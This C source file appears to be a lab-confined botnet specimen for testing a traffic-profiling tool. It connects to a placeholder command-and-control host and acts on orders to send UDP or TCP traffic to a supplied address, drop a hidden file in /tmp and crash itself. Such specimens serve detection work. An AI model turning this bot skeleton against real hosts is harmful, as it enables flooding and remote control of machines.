/*
 * binbot: a harmless stand-in for a bot that nobody knows yet, for the
 * generic `binary` profile and for `profile from-pcap`. Its frames are
 *
 *   type (1)  length (1)  payload
 *
 * It begins with type 1, payload "BIN1"; type 2 is answered with type 2.
 * Type 16 is an order: code (1) address (4) port (2) count (1). Codes: 1
 * datagrams, 2 connects, 3 a child sends, 4 kills it, 5 writes a file, 6
 * answers with type 17, 7 hangs up, 8 dies of SIGSEGV; others nothing.
 */
#include <sys/socket.h>

#include <stdint.h>
#include <string.h>
#include <unistd.h>

#include "actions.h"
#include "common.h"

#define SERVER_NAME "c2.binbot.example"
#define SERVER_FALLBACK "198.18.13.42"
#define SERVER_PORT 5555
#define IDLE_SECONDS 180
#define FRAME_HELLO 1
#define FRAME_PING 2
#define FRAME_ORDER 16
#define FRAME_ANSWER 17
#define ORDER_SIZE 8
#define DROP_PATH "/tmp/.binbot"

static int serverSocket = -1;

static int
sendFrame(uint8_t type, const char *payload)
{
	uint8_t head[2] = { type, (uint8_t)strlen(payload) };

	if (sendAll(serverSocket, head, sizeof head) == -1)
		return -1;
	return sendAll(serverSocket, payload, strlen(payload));
}

static int
recvAll(uint8_t *buf, size_t n)
{
	while (n > 0) {
		if (!waitReadable(serverSocket, IDLE_SECONDS))
			return -1;
		ssize_t got = recv(serverSocket, buf, n, 0);
		if (got <= 0)
			return -1;
		buf += got;
		n -= (size_t)got;
	}
	return 0;
}

/* Does an order; -1 when the connection should end. */
NOINLINE int
processOrder(const uint8_t order[ORDER_SIZE])
{
	struct in_addr ip;
	int port = order[5] << 8 | order[6], count = order[7];

	memcpy(&ip, order + 1, 4);
	switch (order[0]) {
	case 1:
		sendUdp(ip, port, count);
		break;
	case 2:
		sendTcp(ip, port, count);
		break;
	case 3:
		if (labHas(ip))
			holdTarget(serverSocket, ip, port, count);
		break;
	case 4:
		stopChildren();
		break;
	case 5:
		dropFile(DROP_PATH);
		break;
	case 6:
		return sendFrame(FRAME_ANSWER, "a specimen");
	case 7:
		return -1;
	case 8:
		crash();
		break;
	default:
		break;
	}
	return 0;
}

NOINLINE int
recvFrame(void)
{
	uint8_t head[2], payload[255];

	if (recvAll(head, sizeof head) == -1 ||
	    recvAll(payload, head[1]) == -1)
		return -1;
	reapChildren();
	if (head[0] == FRAME_PING)
		return sendFrame(FRAME_PING, "");
	if (head[0] == FRAME_ORDER && head[1] >= ORDER_SIZE)
		return processOrder(payload);
	return 0;
}

NOINLINE int
initConnection(void)
{
	hangUp(&serverSocket);
	serverSocket = connectServer(SERVER_NAME, SERVER_FALLBACK, SERVER_PORT);
	return serverSocket == -1 ? -1 : sendFrame(FRAME_HELLO, "BIN1");
}

static void
bot(void)
{
	for (;;) {
		int up = initConnection() == 0;
		while (up && recvFrame() == 0)
			;
		hangUp(&serverSocket);
		sleep(up ? 1 : 5);
	}
}

int
main(void)
{
	labGuard("binbot");
	keep(bot);
}
